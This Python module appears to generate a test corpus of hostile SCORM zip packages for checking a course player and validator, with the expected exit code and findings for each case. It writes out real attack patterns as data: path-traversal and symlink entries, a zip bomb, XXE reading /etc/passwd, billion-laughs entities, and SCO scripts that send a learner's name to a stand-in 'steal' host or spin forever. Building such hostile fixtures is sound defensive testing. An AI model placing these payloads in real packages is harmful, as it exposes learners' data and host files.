"""A corpus of hostile SCORM zips, made in code: broken or unsafe containers, tricky manifests and
encodings, and well-formed packages whose SCO tries to reach out, spin, flood or tamper.

Each `Case` says what `play` must answer (exit code, and the kinds of finding behind a 1). What
`validate` and `inspect` answer is theirs to decide; the sweep only holds them to no traceback,
a documented exit code and no write outside their temporary folders.
"""
from __future__ import annotations

import io
import stat
import warnings
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

NS = ('xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" '
      'xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2"')
META = "<metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>"


def manifest(items: str = '<item identifier="item_1" identifierref="res"><title>SCO</title></item>',
             resources: str = '<resource identifier="res" type="webcontent" adlcp:scormtype="sco" href="sco.html">'
                              '<file href="sco.html"/></resource>',
             head: str = '<?xml version="1.0" encoding="UTF-8"?>', organizations: str | None = None) -> str:
    orgs = organizations if organizations is not None else (
        f'<organizations default="org"><organization identifier="org"><title>Hostile</title>{items}'
        '</organization></organizations>')
    return f'{head}\n<manifest identifier="hostile" version="1" {NS}>{META}{orgs}<resources>{resources}</resources></manifest>'


def sco(script: str = "", head: str = "", body: str = "") -> str:
    """A SCO that initializes, runs `script`, completes and finishes, unless the script never ends."""
    return f"""<!doctype html><html lang="en"><head><meta charset="utf-8"><title>SCO</title>{head}</head>
<body><h1>SCO</h1>{body}<script>
function findAPI(w) {{ for (var i = 0; w && i < 50; i++) {{ if (w.API) return w.API; if (w.parent === w) break; w = w.parent; }} return null; }}
var api = findAPI(window) || (window.opener && findAPI(window.opener));
api.LMSInitialize("");
{script}
api.LMSSetValue("cmi.core.lesson_status", "completed");
api.LMSFinish("");
</script></body></html>"""


CLEAN_SCO = sco()


def write_zip(dest: Path, entries: list[tuple[str | zipfile.ZipInfo, bytes | str]]) -> Path:
    with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zf, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # a duplicate name is one of the cases
        for name, data in entries:
            zf.writestr(name, data)
    return dest


def package(script: str = "", head: str = "", body: str = "", **manifest_kw) -> Callable[[Path], Path]:
    return lambda dest: write_zip(dest, [("imsmanifest.xml", manifest(**manifest_kw)), ("sco.html", sco(script, head, body))])


def entries(*pairs) -> Callable[[Path], Path]:
    return lambda dest: write_zip(dest, list(pairs))


def raw(data: bytes) -> Callable[[Path], Path]:
    def make(dest: Path) -> Path:
        dest.write_bytes(data)
        return dest
    return make


def _symlink_entry(name: str, target: str) -> tuple[zipfile.ZipInfo, str]:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info, target


def _encrypted(dest: Path) -> Path:
    """sco.html flagged as encrypted (general purpose bit 0), as a password-protected zip has it."""
    write_zip(dest, [("imsmanifest.xml", manifest()), ("sco.html", CLEAN_SCO)])
    dest.write_bytes(_set_flags(dest.read_bytes(), set_bits=0x0001, name=b"sco.html"))
    return dest


def _set_flags(data: bytes, set_bits: int = 0, clear_bits: int = 0, name: bytes | None = None) -> bytes:
    """The zip with general purpose flags changed in the local and central headers (of `name`, or all)."""
    data = bytearray(data)
    for sig, flag_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        at = 0
        while (at := data.find(sig, at)) >= 0:
            length = int.from_bytes(data[at + name_at - (4 if sig == b"PK\x03\x04" else 18):][:2], "little")
            if name is None or bytes(data[at + name_at:at + name_at + length]) == name:
                flags = int.from_bytes(data[at + flag_at:at + flag_at + 2], "little")
                data[at + flag_at:at + flag_at + 2] = ((flags | set_bits) & ~clear_bits).to_bytes(2, "little")
            at += 4
    return bytes(data)


def _truncated(dest: Path) -> Path:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("imsmanifest.xml", manifest())
        zf.writestr("sco.html", CLEAN_SCO)
    dest.write_bytes(whole.getvalue()[: len(whole.getvalue()) // 2])
    return dest


def _bomb(dest: Path) -> Path:
    return write_zip(dest, [("imsmanifest.xml", manifest()), ("sco.html", CLEAN_SCO),
                            ("assets/zeros.bin", b"\0" * (64 * 1024 * 1024))])


def _many_entries(dest: Path) -> Path:
    return write_zip(dest, [("imsmanifest.xml", manifest()), ("sco.html", CLEAN_SCO)]
                     + [(f"f/{n}.txt", "") for n in range(20_001)])


def _cp437_names(dest: Path) -> Path:
    """A name with bytes that are not UTF-8 and no UTF-8 flag: old Windows zip tools."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("imsmanifest.xml", manifest())
        zf.writestr("sco.html", CLEAN_SCO)
        zf.writestr("bild-\u00e5.png", b"png")  # written as UTF-8 with the flag ...
    data = bytearray(buffer.getvalue())
    utf8 = "bild-\u00e5.png".encode()
    at = 0
    while (at := data.find(utf8, at)) >= 0:     # ... then the name made cp437 (same length, padded)
        data[at:at + len(utf8)] = b"bild-\x86_.png"
        at += len(utf8)
    data = bytearray(_set_flags(bytes(data), clear_bits=0x0800))  # no UTF-8 flag (bit 11) anywhere
    dest.write_bytes(bytes(data))
    return dest


def _latin1_manifest(dest: Path) -> Path:
    text = manifest(items='<item identifier="item_1" identifierref="res"><title>Våld i nära relation</title></item>')
    return write_zip(dest, [("imsmanifest.xml", text.encode("latin-1")), ("sco.html", CLEAN_SCO)])


def _utf16_manifest(dest: Path, bom: bool) -> Path:
    text = manifest(head='<?xml version="1.0" encoding="UTF-16"?>')
    data = text.encode("utf-16") if bom else text.encode("utf-16-le")
    return write_zip(dest, [("imsmanifest.xml", data), ("sco.html", CLEAN_SCO)])


def _many_items(dest: Path) -> Path:
    items = "".join(f'<item identifier="item_{n}" identifierref="res"><title>{n}</title></item>' for n in range(400))
    return write_zip(dest, [("imsmanifest.xml", manifest(items=items)), ("sco.html", CLEAN_SCO)])


XXE = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE manifest [<!ENTITY leak SYSTEM "file:///etc/passwd">]>')
LAUGHS = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE manifest [<!ENTITY a "aaaaaaaaaa">'
          + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)) + "]>")


@dataclass(frozen=True)
class Case:
    id: str
    make: Callable[[Path], Path]
    play: int | tuple[int, ...]                # play's exit code (or the codes it may give)
    findings: frozenset = field(default_factory=frozenset)  # kinds of run error (or violation rules) behind a 1
    canary: bool = False                       # the zip aims a write at the canary folder


def cases(canary: Path) -> list[Case]:
    """Every case; `canary` is the folder that traversal and absolute-path entries aim at."""
    c = lambda *kinds: frozenset(kinds)  # noqa: E731
    ext = c("external-request")
    return [
        # --- the container -------------------------------------------------------------------
        Case("not-a-zip", raw(b"hello, this is not a zip"), 2),
        Case("empty-file", raw(b""), 2),
        Case("truncated-zip", _truncated, 2),
        Case("no-manifest", entries(("sco.html", CLEAN_SCO)), 2),
        Case("manifest-in-a-folder", entries(("pkg/imsmanifest.xml", manifest()), ("pkg/sco.html", CLEAN_SCO)), 2),
        Case("traversal-entry", entries(("imsmanifest.xml", manifest()), ("sco.html", CLEAN_SCO),
                                        (f"../../../../../../../..{canary}/traversal.txt", "escaped")), 2, canary=True),
        Case("absolute-entry", entries(("imsmanifest.xml", manifest()), ("sco.html", CLEAN_SCO),
                                       (f"{canary}/absolute.txt", "escaped")), 2, canary=True),
        Case("backslash-traversal", entries(("imsmanifest.xml", manifest()), ("sco.html", CLEAN_SCO),
                                            ("..\\..\\..\\..\\escape.txt", "escaped")), 2),
        Case("symlink-entry", entries(("imsmanifest.xml", manifest()), ("sco.html", CLEAN_SCO),
                                      _symlink_entry("passwd.html", "/etc/passwd")), 2),
        Case("symlink-to-canary", entries(_symlink_entry("assets", str(canary)), ("imsmanifest.xml", manifest()),
                                          ("sco.html", CLEAN_SCO), ("assets/through-link.txt", "escaped")), 2, canary=True),
        Case("encrypted-entry", _encrypted, 2),
        Case("duplicate-entry", entries(("imsmanifest.xml", manifest()), ("sco.html", CLEAN_SCO),
                                        ("sco.html", sco("document.title = 'second';"))), 2),
        Case("zip-bomb", _bomb, 2),
        Case("too-many-entries", _many_entries, 2),
        # --- the manifest ----------------------------------------------------------------------
        Case("manifest-not-xml", entries(("imsmanifest.xml", "<manifest"), ("sco.html", CLEAN_SCO)), 2),
        Case("manifest-empty", entries(("imsmanifest.xml", ""), ("sco.html", CLEAN_SCO)), 2),
        Case("manifest-xxe", entries(("imsmanifest.xml", manifest(
            head=XXE, items='<item identifier="item_1" identifierref="res"><title>&leak;</title></item>')),
            ("sco.html", CLEAN_SCO)), (0, 2)),  # refusing a DOCTYPE is the manifest reader's call
        Case("manifest-billion-laughs", entries(("imsmanifest.xml", manifest(
            head=LAUGHS, items='<item identifier="item_1" identifierref="res"><title>&i;</title></item>')),
            ("sco.html", CLEAN_SCO)), 2),
        Case("no-organization", package(organizations="<organizations/>"), 2),
        Case("nothing-launchable", package(items='<item identifier="item_1"><title>No ref</title></item>'), 2),
        Case("assets-only", package(resources='<resource identifier="res" type="webcontent" adlcp:scormtype="asset" '
                                              'href="sco.html"><file href="sco.html"/></resource>'), 2),
        Case("launch-file-missing", entries(("imsmanifest.xml", manifest())), 1, c("no-initialize")),
        Case("href-traversal", package(resources='<resource identifier="res" type="webcontent" adlcp:scormtype="sco" '
                                                 'href="../../../../etc/passwd"/>'), 1, c("no-initialize")),
        Case("href-external-url", package(resources='<resource identifier="res" type="webcontent" adlcp:scormtype="sco" '
                                                    'href="http://evil.example/sco.html"/>'), 1, c("no-initialize")),
        Case("xml-base-external", package(resources='<resource identifier="res" type="webcontent" adlcp:scormtype="sco" '
                                                    'xml:base="http://evil.example/" href="sco.html"/>'), 1,
             c("no-initialize")),
        Case("parameters-javascript", package(
            items='<item identifier="item_1" identifierref="res" parameters="javascript:alert(1)"><title>x</title></item>'),
            0),
        Case("many-items-run-limit", _many_items, 1, c("time-limit")),
        # --- encodings --------------------------------------------------------------------------
        Case("manifest-utf8-bom", entries(("imsmanifest.xml", b"\xef\xbb\xbf" + manifest().encode()),
                                          ("sco.html", CLEAN_SCO)), 0),
        Case("manifest-utf16-bom", lambda d: _utf16_manifest(d, bom=True), 0),
        Case("manifest-utf16-no-bom", lambda d: _utf16_manifest(d, bom=False), 0),
        Case("manifest-latin1-as-utf8", _latin1_manifest, 2),
        Case("entry-name-control-chars", entries(("imsmanifest.xml", manifest()), ("sco.html", CLEAN_SCO),
                                                 ("evil\x1b[2J\nfake: error.txt", "x")), 0),
        Case("entry-name-rtl-override", entries(("imsmanifest.xml", manifest()), ("sco.html", CLEAN_SCO),
                                                ("report\u202egnp.exe", "x")), 0),
        Case("entry-name-cp437", _cp437_names, 0),
        Case("entry-name-nfd", entries(("imsmanifest.xml", manifest(resources=(
            '<resource identifier="res" type="webcontent" adlcp:scormtype="sco" href="s\u00e5.html">'
            '<file href="s\u00e5.html"/></resource>'))), ("sa\u030a.html", CLEAN_SCO)), 1, c("no-initialize")),
        # --- the SCO reaches out ----------------------------------------------------------------
        Case("websocket", package('new WebSocket("ws://127.0.0.1:9/leak");'), 1, ext),
        Case("webrtc-stun", package('var pc = new RTCPeerConnection({iceServers: [{urls: "stun:stun.example.net:3478"}]});'
                                    'pc.createDataChannel("x"); pc.createOffer().then(function (o) { pc.setLocalDescription(o); });'),
             1, ext),
        Case("dns-prefetch", package(head='<link rel="dns-prefetch" href="//prefetch.example.org">'), 1, ext),
        Case("preconnect", package(head='<link rel="preconnect" href="https://preconnect.example.org">'), 1, ext),
        Case("fetch", package('fetch("https://api.example.net/steal?n=" + api.LMSGetValue("cmi.core.student_name"))'
                              '.catch(function () {});'), 1, ext),
        Case("xhr", package('var x = new XMLHttpRequest(); x.open("GET", "https://xhr.example.net/"); '
                            'x.onerror = function () {}; x.send();'), 1, ext),
        Case("beacon", package('navigator.sendBeacon("https://beacon.example.net/", "Anna");'), 1, ext),
        Case("event-source", package('new EventSource("https://events.example.net/stream");'), 1, ext),
        Case("image", package(body='<img alt="" src="https://img.example.net/pixel.png">'), 1, ext),
        Case("css-url", package(head='<style>body { background: url(https://css.example.net/bg.png); }</style>'), 1, ext),
        Case("css-import", package(head='<style>@import url("https://css.example.net/x.css");</style>'), 1, ext),
        Case("web-font", package(head='<style>@font-face { font-family: x; src: url(https://font.example.net/x.woff2); }'
                                      ' h1 { font-family: x; }</style>'), 1, ext),
        Case("iframe-external", package(body='<iframe title="x" src="https://frame.example.net/"></iframe>'), 1, ext),
        Case("form-post", package(body='<form id="f" method="post" action="https://form.example.net/"><input name="n" value="Anna"></form>',
                                  script='setTimeout(function () { document.getElementById("f").submit(); }, 0);'), 1, ext),
        Case("top-navigation", package('setTimeout(function () { window.top.location = "https://top.example.net/"; }, 0);'),
             1, ext),
        Case("popup-external", package('window.open("https://popup.example.net/");'), 1, ext),
        Case("meta-refresh", package(head='<meta http-equiv="refresh" content="0;url=https://refresh.example.net/">'),
             1, ext),
        Case("service-worker", package('if (navigator.serviceWorker) navigator.serviceWorker.register("sw.js").catch(function () {});'),
             0),
        # --- the SCO spins, floods or tampers ---------------------------------------------------
        Case("spin-before-initialize", entries(("imsmanifest.xml", manifest()),
                                               ("sco.html", "<!doctype html><title>x</title><script>while (true) {}</script>")),
             1, c("time-limit")),
        Case("spin-after-initialize", package("while (true) {}"), 1, c("time-limit")),
        Case("api-flood", package('for (var i = 0; i < 2000; i++) api.LMSGetValue("cmi.core.student_name");'), 1,
             c("call-limit")),
        Case("dialog-loop", package("while (true) alert('hi');"), 1, c("time-limit")),
        Case("console-flood", package('for (var i = 0; i < 500; i++) console.error("noise " + i);'), 1, c("console")),
    ]
